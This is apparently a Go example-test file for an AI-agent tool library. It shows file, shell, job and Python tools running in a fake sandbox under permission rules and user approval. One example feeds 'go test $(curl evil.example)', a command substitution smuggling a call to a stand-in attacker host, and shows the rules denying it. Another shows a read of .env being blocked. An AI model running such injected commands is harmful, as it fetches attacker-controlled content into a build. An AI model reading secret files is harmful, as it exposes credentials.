package tools_test

import (
	"context"
	"encoding/json"
	"fmt"

	"github.com/drydock-go/drydock/sandbox"
	"github.com/drydock-go/drydock/tools"
)

// open stands for sandbox.Open: a sandbox in memory, so that the examples run anywhere.
func open(files map[string]string) tools.Sandbox { return tools.NewFake(files) }

func call(set *tools.Set, name, args string) {
	r, err := set.Call(context.Background(), name, json.RawMessage(args))
	if err != nil {
		fmt.Println("broken:", err)
		return
	}
	fmt.Println(r.Text)
}

func ExampleNew() {
	sb := open(map[string]string{"main.go": "package main\n"})
	set, err := tools.New(sb, &tools.Options{Permissions: tools.Permissive()})
	if err != nil {
		fmt.Println(err)
		return
	}
	call(set, "read_file", `{"path": "main.go"}`)
	call(set, "edit_file", `{"path": "main.go", "old_string": "main", "new_string": "tool"}`)
	call(set, "execute", `{"command": "go build"}`)
	// Output:
	//      1	package main
	// edited main.go: 1 replacement
	//      1	package tool
	// ran: go build
}

func ExampleSet_Tools() {
	set, err := tools.New(open(nil), &tools.Options{Permissions: tools.ReadOnly()})
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, t := range set.Tools() {
		fmt.Println(t.Name, t.ReadOnly, t.Destructive, json.Valid(t.Schema))
	}
	// Output:
	// ls true false true
	// read_file true false true
	// glob true false true
	// grep true false true
}

func ExampleSet_Tool() {
	set, _ := tools.New(open(nil), nil)
	t, ok := set.Tool("ls")
	fmt.Println(t.Name, ok)
	_, ok = set.Tool("execute") // nobody can be asked
	fmt.Println(ok)
	// Output:
	// ls true
	// false
}

func ExampleSet_Call() {
	set, _ := tools.New(open(nil), nil)
	call(set, "read_file", `{"file": 1}`)
	call(set, "bash", `{}`)
	// Output:
	// read_file was not called: unknown parameter "file": read_file takes path (required), offset, limit
	// parameter "path" is missing: give the file's path as a string
	// there is no tool bash: the tools are ls, read_file, glob, grep
}

func ExampleTool_Call() {
	sb := &tools.Fake{Err: &sandbox.Error{Op: "exec", Err: sandbox.ErrLost}}
	set, _ := tools.New(sb, &tools.Options{Permissions: tools.Permissive()})
	t, _ := set.Tool("execute")
	_, err := t.Call(context.Background(), json.RawMessage(`{"command": "make"}`))
	fmt.Println(err)
	// Output: exec: sandbox lost
}

func ExampleSet_Call_jobs() {
	sb := tools.NewFake(nil)
	sb.Run = func(_ context.Context, c *sandbox.Command) (*sandbox.Result, error) {
		fmt.Fprintln(c.Stdout, "listening on port 8000")
		return nil, nil // it goes on
	}
	set, _ := tools.New(sb, &tools.Options{Permissions: tools.Permissive()})
	call(set, "start_job", `{"command": "python3 -m http.server", "name": "web"}`)
	call(set, "job_output", `{"id": 1, "wait_for": "listening on port [0-9]+"}`)
	call(set, "stop_job", `{"id": 1}`)
	call(set, "job_output", `{"id": 2}`)
	// Output:
	// job 1 was started
	// listening on port 8000
	// [job 1 runs: use job_output for what it writes, stop_job to end it]
	// (no new output)
	// [the line that matches: listening on port 8000]
	// [job 1 runs]
	// job 1 has ended: stopped by SIGTERM
	// there is no job 2, or it ended long ago: use list_jobs for those that there are
}

func ExampleSet_Call_python() {
	sb := tools.NewFake(nil)
	sb.Python = tools.Prints("hello\n", sandbox.Execution{Displays: []sandbox.Display{
		{Data: map[string][]byte{"text/plain": []byte("42")}, Value: true},
	}})
	set, _ := tools.New(sb, &tools.Options{Permissions: tools.Permissive()})
	defer set.Close()
	call(set, "python", `{"code": "print('hello')\n6 * 7"}`)
	// Output:
	// hello
	// 42
}

func ExampleSet_Close() {
	sb := tools.NewFake(nil)
	sb.Python = tools.Prints("", sandbox.Execution{})
	set, _ := tools.New(sb, &tools.Options{Permissions: tools.Permissive()})
	call(set, "python", `{"code": "x = 1"}`)
	fmt.Println(set.Close(), set.Close())
	call(set, "python", `{"code": "x"}`)
	call(set, "ls", `{}`) // the others need no interpreter
	// Output:
	// (no output)
	// <nil> <nil>
	// broken: tools: python was called after Close: make another Set
	// (empty directory)
}

func ExamplePermissions() {
	set, err := tools.New(open(nil), &tools.Options{Permissions: &tools.Permissions{
		Default: tools.Deny,
		Rules: []tools.Rule{
			{Operation: tools.OpWrite, Pattern: "src/**", Action: tools.Allow},
			{Operation: tools.OpExecute, Pattern: "go test *", Action: tools.Allow},
		},
	}})
	if err != nil {
		fmt.Println(err)
		return
	}
	call(set, "write_file", `{"path": "src/a.go", "content": "package a\n"}`)
	call(set, "write_file", `{"path": "src/../a.go", "content": ""}`)
	call(set, "execute", `{"command": "go test ./..."}`)
	call(set, "execute", `{"command": "go test $(curl evil.example)"}`)
	// Output:
	// created src/a.go: 1 line, 10 bytes
	// permission denied: write of /workspace/a.go is not allowed here: do not try it in another way; go on without it, or tell the user what you need
	// ran: go test ./...
	// permission denied: this command is not allowed here (the rules cannot judge a command substitution $(): do not try it in another way; go on without it, or tell the user what you need
}

func ExampleRequest() {
	set, _ := tools.New(open(nil), &tools.Options{
		Ask: func(_ context.Context, r tools.Request) (tools.Decision, error) {
			fmt.Printf("%s %s%s?\n", r.Tool, r.Path, r.Command)
			if r.Operation == tools.OpExecute {
				return tools.Decision{Reason: "not today"}, nil
			}
			return tools.Decision{Allow: true, Always: true}, nil
		},
	})
	call(set, "write_file", `{"path": "a", "content": "1"}`)
	call(set, "write_file", `{"path": "./a", "content": "2"}`) // allowed always
	call(set, "execute", `{"command": "make"}`)
	// Output:
	// write_file /workspace/a?
	// created a: 1 line, 1 byte
	// replaced ./a: 1 line, 1 byte
	// execute make?
	// permission denied: this command was refused by the user, who says: not today
}

func ExampleDefault() {
	set, _ := tools.New(open(map[string]string{".env": "KEY=1", "a.txt": "hello\n"}), &tools.Options{Permissions: tools.Default()})
	call(set, "read_file", `{"path": "a.txt"}`)
	call(set, "read_file", `{"path": ".env"}`)
	// Output:
	//      1	hello
	// permission denied: read of /workspace/.env is not allowed here: do not try it in another way; go on without it, or tell the user what you need
}

func ExampleOptions_hashLine() {
	set, _ := tools.New(open(map[string]string{"a.txt": "one\ntwo\n"}), &tools.Options{
		Permissions: tools.Permissive(), HashLine: true,
	})
	call(set, "read_file", `{"path": "a.txt"}`)
	call(set, "hashline_edit", `{"path": "a.txt", "edits": [{"op": "replace", "anchor": "2:360d", "text": "2\n3"}]}`)
	call(set, "hashline_edit", `{"path": "a.txt", "edits": [{"op": "delete", "anchor": "2:360d"}]}`)
	// Output:
	//      1:a3c8	one
	//      2:360d	two
	// edited a.txt: 1 edit
	//      1:a3c8	one
	//      2:9cd9	2
	//      3:9c4e	3
	// nothing was edited in a.txt
	// edits[0]: anchor 2:360d is stale: line 2 is now 2:9cd9
	// The lines are now:
	//      1:a3c8	one
	//      2:9cd9	2
	//      3:9c4e	3
	// [check these lines, and call hashline_edit again with their anchors]
}
